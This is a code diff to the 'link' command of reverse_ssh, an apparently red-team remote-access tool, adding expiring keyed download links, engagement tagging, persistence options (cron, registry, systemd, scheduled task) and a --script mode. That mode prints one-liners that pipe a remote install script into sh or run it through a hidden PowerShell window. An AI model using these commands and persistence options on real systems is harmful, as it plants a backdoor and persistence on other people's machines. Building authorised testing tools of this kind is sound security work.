@@ -5,9 +5,13 @@ import (
 	"fmt"
 	"io"
 	"path"
+	"runtime"
 	"sort"
 	"strings"
+	"time"
 
+	"github.com/NHAS/reverse_ssh/internal"
+	"github.com/NHAS/reverse_ssh/internal/server/engagements"
 	"github.com/NHAS/reverse_ssh/internal/server/webserver"
 	"github.com/NHAS/reverse_ssh/internal/terminal"
 	"github.com/NHAS/reverse_ssh/internal/terminal/autocomplete"
@@ -20,11 +24,11 @@ type link struct {
 func (l *link) Run(tty io.ReadWriter, line terminal.ParsedLine) error {
 
 	if line.IsSet("h") || line.IsSet("help") {
-		return errors.New(l.Help(false))
+		return terminal.Errorf(terminal.Usage, "%s", l.Help(false))
 	}
 
 	if toList, ok := line.Flags["l"]; ok {
-		t, _ := table.NewTable("Active Files", "Url", "Client Callback", "GOOS", "GOARCH", "Version", "Type", "Hits")
+		t, _ := table.NewTable("Active Files", "Url", "Client Callback", "GOOS", "GOARCH", "Version", "Type", "Hits", "Expires")
 
 		files, err := webserver.List(strings.Join(toList.ArgValues(), " "))
 		if err != nil {
@@ -41,13 +45,20 @@ func (l *link) Run(tty io.ReadWriter, line terminal.ParsedLine) error {
 		for _, id := range ids {
 			file := files[id]
 
-			t.AddValues("http://"+path.Join(webserver.DefaultConnectBack, id), file.CallbackAddress, file.Goos, file.Goarch+file.Goarm, file.Version, file.FileType, fmt.Sprintf("%d", file.Hits))
-		}
+			url := "http://" + path.Join(webserver.DefaultConnectBack, id)
+			if file.Key != "" {
+				url += "?key=" + file.Key
+			}
 
-		t.Fprint(tty)
+			expires := "never"
+			if !file.Expires.IsZero() {
+				expires = file.Expires.Format(time.RFC3339)
+			}
 
-		return nil
+			t.AddValues(url, file.CallbackAddress, file.Goos, file.Goarch+file.Goarm, file.Version, file.FileType, file.Downloads(), expires)
+		}
 
+		return printTable(tty, line, &t)
 	}
 
 	if toRemove, ok := line.Flags["r"]; ok {
@@ -119,20 +130,196 @@ func (l *link) Run(tty io.ReadWriter, line terminal.ParsedLine) error {
 		return err
 	}
 
+	engagement, err := line.GetArgString("engagement")
+	if err != nil && err != terminal.ErrFlagNotSet {
+		return err
+	}
+
+	if engagement != "" {
+		if _, ok := engagements.Get(engagement); !ok {
+			return fmt.Errorf("engagement %q does not exist, create it with the engagement command first", engagement)
+		}
+	}
+
+	algorithms, err := line.GetArgString("algorithms")
+	if err != nil && err != terminal.ErrFlagNotSet {
+		return err
+	}
+
+	if algorithms != "" {
+		if _, err := (internal.AlgorithmPolicy{Profile: algorithms}).Resolve(); err != nil {
+			return err
+		}
+	}
+
+	token, err := line.GetArgString("token")
+	if err != nil && err != terminal.ErrFlagNotSet {
+		return err
+	}
+
+	if token != "" && engagement != "" {
+		return errors.New("a client built with --token is tagged with the engagement of the token, not --engagement")
+	}
+
+	expiry, err := line.GetArgDuration("expires")
+	if err != nil && err != terminal.ErrFlagNotSet {
+		return err
+	}
+
+	maxDownloads, err := line.GetArgInt("downloads")
+	if err != nil && err != terminal.ErrFlagNotSet {
+		return err
+	}
+	if line.IsSet("downloads") && maxDownloads < 1 {
+		return terminal.Errorf(terminal.Usage, "--downloads needs a positive number")
+	}
+
 	if (line.IsSet("tls") && line.IsSet("wss")) || (line.IsSet("tls") && line.IsSet("ws")) || (line.IsSet("wss") && line.IsSet("ws")) {
 		return errors.New("cant use tls/wss/ws flags together (only supports one per client)")
 	}
 
-	url, err := webserver.Build(goos, goarch, goarm, homeserver_address, fingerprint, name, comment, proxy, line.IsSet("shared-object"), line.IsSet("upx"), line.IsSet("garble"), line.IsSet("no-lib-c"), line.IsSet("tls"), line.IsSet("wss"), line.IsSet("ws"))
-	if err != nil {
+	var key string
+	if line.IsSet("key") {
+		key, err = internal.RandomString(16)
+		if err != nil {
+			return err
+		}
+	}
+
+	if line.IsSet("persist") && (token != "" || line.IsSet("shared-object")) {
+		return errors.New("--persist cant be used with --token or --shared-object")
+	}
+
+	// A bare --persist picks the default method for each platform
+	persistWith, _ := line.GetArgString("persist")
+
+	build := func(goos, goarch, name, persist string) (string, error) {
+		return webserver.Build(goos, goarch, goarm, homeserver_address, fingerprint, name, comment, proxy, engagement, algorithms, token, line.IsSet("shared-object"), line.IsSet("upx"), line.IsSet("garble"), line.IsSet("no-lib-c"), line.IsSet("tls"), line.IsSet("wss"), line.IsSet("ws"), line.IsSet("no-transfer"), line.IsSet("no-forward"), line.IsSet("memory-only"), line.IsSet("os-log"), key, persist, expiry, maxDownloads)
+	}
+
+	if !line.IsSet("script") {
+		var persist string
+		if line.IsSet("persist") {
+			target := goos
+			if target == "" {
+				target = runtime.GOOS
+			}
+
+			persist, err = persistenceFor(target, persistWith)
+			if err != nil {
+				return err
+			}
+		}
+
+		url, err := build(goos, goarch, name, persist)
+		if err != nil {
+			return err
+		}
+
+		fmt.Fprintln(tty, url)
+
+		return nil
+	}
+
+	if goos != "" || goarch != "" || line.IsSet("shared-object") {
+		return errors.New("--script builds a client for each of --platforms, it cant be used with --goos, --goarch or --shared-object")
+	}
+
+	platforms := defaultScriptPlatforms
+	if value, err := line.GetArgString("platforms"); err == nil {
+		platforms = value
+	}
+
+	if name == "" {
+		name, err = internal.RandomString(16)
+		if err != nil {
+			return err
+		}
+	}
+
+	var (
+		variants          []string
+		onUnix, onWindows bool
+	)
+
+	for _, platform := range strings.Split(platforms, ",") {
+		parts := strings.Split(strings.TrimSpace(platform), "/")
+		if len(parts) != 2 {
+			return fmt.Errorf("platform %q should be written as goos/goarch", platform)
+		}
+
+		var persist string
+		if line.IsSet("persist") {
+			persist, err = persistenceFor(parts[0], persistWith)
+			if err != nil {
+				return err
+			}
+		}
+
+		variant := name + "-" + parts[0] + "-" + parts[1]
+		if _, err := build(parts[0], parts[1], variant, persist); err != nil {
+			return fmt.Errorf("unable to build %s: %s", platform, err)
+		}
+
+		fmt.Fprintf(tty, "Built %s as %s\n", platform, variant)
+
+		variants = append(variants, variant)
+		if parts[0] == "windows" {
+			onWindows = true
+		} else {
+			onUnix = true
+		}
+	}
+
+	if err := webserver.AddInstaller(name, variants, key, expiry); err != nil {
 		return err
 	}
 
-	fmt.Fprintln(tty, url)
+	url := "http://" + path.Join(webserver.DefaultConnectBack, name)
+
+	var query string
+	if key != "" {
+		query = "?key=" + key
+	}
+
+	if onUnix {
+		fmt.Fprintf(tty, "curl -fsSL '%s.sh%s' | sh\n", url, query)
+	}
+
+	if onWindows {
+		fmt.Fprintf(tty, "powershell -nop -w hidden -c \"irm '%s.ps1%s' | iex\"\n", url, query)
+	}
 
 	return nil
 }
 
+const defaultScriptPlatforms = "linux/amd64,linux/arm64,windows/amd64"
+
+// persistenceFor checks a persistence method suits the platform, by default picking one that works without root or admin as a freshly run client often has neither
+func persistenceFor(goos, method string) (string, error) {
+	windows := goos == "windows"
+
+	switch method {
+	case "":
+		if windows {
+			return "registry", nil
+		}
+		return "cron", nil
+	case "registry", "task":
+		if windows {
+			return method, nil
+		}
+	case "systemd", "cron":
+		if !windows {
+			return method, nil
+		}
+	default:
+		return "", fmt.Errorf("Unknown persistence method '%s'", method)
+	}
+
+	return "", fmt.Errorf("%s persistence is not available for %s clients", method, goos)
+}
+
 func (l *link) Expect(line terminal.ParsedLine) []string {
 	if line.Section != nil {
 		switch line.Section.Value() {
@@ -153,8 +340,9 @@ func (e *link) Help(explain bool) string {
 		"link [OPTIONS]",
 		"Link will compile a client and serve the resulting binary on a link which is returned.",
 		"This requires the web server component has been enabled.",
+		"The link also serves install scripts with a .sh, .py or .ps1 extension, and installer packages with .deb (linux) or .msi (windows, needs wixl from msitools).",
 		"\t-s\tSet homeserver address, defaults to server --external_address if set, or server listen address if not.",
-		"\t-l\tList currently active download links",
+		"\t-l\tList currently active download links, fitted to the terminal unless -w is given, or as --csv or --json",
 		"\t-r\tRemove download link",
 		"\t-C\tComment to add as the public key (acts as the name)",
 		"\t--goos\tSet the target build operating system (default runtime GOOS)",
@@ -170,9 +358,18 @@ func (e *link) Help(explain bool) string {
 		"\t--garble\tUse garble to obfuscate the binary (requires garble to be installed)",
 		"\t--upx\tUse upx to compress the final binary (requires upx to be installed)",
 		"\t--no-lib-c\tCompile client without glibc",
+		"\t--no-transfer\tCompile client without scp/sftp file transfer support",
+		"\t--no-forward\tCompile client without port forwarding, dynamic forwarding (socks) or tun support",
+		"\t--algorithms\tSSH algorithm profile the client offers, hardened (default), post-quantum or compatibility for ancient targets",
+		"\t--engagement\tTag the client with an engagement, it is refused (and optionally removed) once the engagement ends",
+		"\t--token\tBuild the client to enroll a key of its own with an enrollment token, see tokens, rather than trusting the built in key",
+		"\t--memory-only\tClient starts in memory only mode, it will not write to disk or log (see memoryonly command)",
+		"\t--os-log\tClient records its connections and sessions in the Windows Event Log, the macOS unified log or syslog",
+		"\t--key\tOnly serve the link, and scripts or packages made from it, to requests with the generated ?key=",
+		"\t--expires\tStop serving the link after this long, e.g 2h",
+		"\t--downloads\tStop serving the link after this many downloads of the client",
+		"\t--script\tBuild a client for each of --platforms and print install one-liners (sh and PowerShell) that fetch the right one for the machine they run on",
+		"\t--platforms\tComma separated goos/goarch list for --script (default "+defaultScriptPlatforms+")",
+		"\t--persist\tClients install persistence when they first connect, recorded like the persist command. Takes a method, by default cron (unix) or registry (windows)",
 	)
 }
-
-func Link() *link {
-	return &link{}
-}